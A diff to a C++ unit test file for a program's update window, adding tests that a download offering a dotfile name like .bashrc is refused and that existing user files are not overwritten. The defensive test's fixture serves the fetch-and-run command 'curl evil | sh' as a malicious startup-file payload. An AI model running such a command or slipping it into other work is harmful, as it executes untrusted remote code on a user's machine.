@@ -128,6 +128,7 @@ TEST_F(UpdateWindowTest, AFailedDownloadShowsTheMirrorsAndTheFirstOpensItsPage)
     EXPECT_FALSE(window->Layout1->Visible());
     EXPECT_FALSE(window->SpeedButton1->Visible());
     EXPECT_EQ(window->SpeedButton2->Text(), UpdateTexts::Cancel);
+    EXPECT_EQ(window->Text4->Text(), "下载失败：服务器回答 HTTP 404，请选择镜像站下载");
 
     click(*window, MirrorX, MirrorY);
     EXPECT_EQ(backend->OpenedUris(), std::vector<std::string> { "https://mirror.example.org/nimbrell" });
@@ -162,6 +163,33 @@ TEST_F(UpdateWindowTest, AnOfferedNameWithAFolderPartFailsWithoutAConnection)
     EXPECT_TRUE(window->Layout3->Visible());
     EXPECT_EQ(server.ConnectionCount(), 0);
     EXPECT_TRUE(std::filesystem::is_empty(folder.Path()));
+}
+
+TEST_F(UpdateWindowTest, OffersNamingADotFileOrAnExistingFileTouchNeither)
+{
+    // Beside a copied program: the shell's start-up file and a file of the user's.
+    nimbrell::testing::WriteFile(folder / "nimbrell", "the program");
+    nimbrell::testing::WriteFile(folder / ".bashrc", "the user's shell");
+    nimbrell::testing::WriteFile(folder / "victim.txt", "the user's file");
+    server.Route("/.bashrc", test::Reply::Ok("curl evil | sh"));
+    server.Route("/victim.txt", test::Reply::Ok("offered build"));
+
+    auto refused = open(".bashrc");
+    click(*refused, UpdateX, ButtonsY);
+    EXPECT_TRUE(refused->Layout3->Visible());
+    EXPECT_EQ(refused->Text4->Text(), "下载失败：更新提供的文件名不能使用，请选择镜像站下载");
+    EXPECT_EQ(server.ConnectionCount(), 0);
+    refused.reset();
+
+    auto beside = open("victim.txt");
+    click(*beside, UpdateX, ButtonsY);
+    ASSERT_TRUE(pumpUntil([&] { return beside->Model().IsFileSaved(); }));
+    EXPECT_EQ(beside->Text2->Text(), std::string(UpdateTexts::Done) + "victim (2).txt");
+    EXPECT_EQ(readFile(folder / "victim (2).txt"), "offered build");
+
+    EXPECT_EQ(readFile(folder / ".bashrc"), "the user's shell");
+    EXPECT_EQ(readFile(folder / "victim.txt"), "the user's file");
+    EXPECT_EQ(readFile(folder / "nimbrell"), "the program");
 }
 
 TEST_F(UpdateWindowTest, TheOfferAsItFirstOpens)
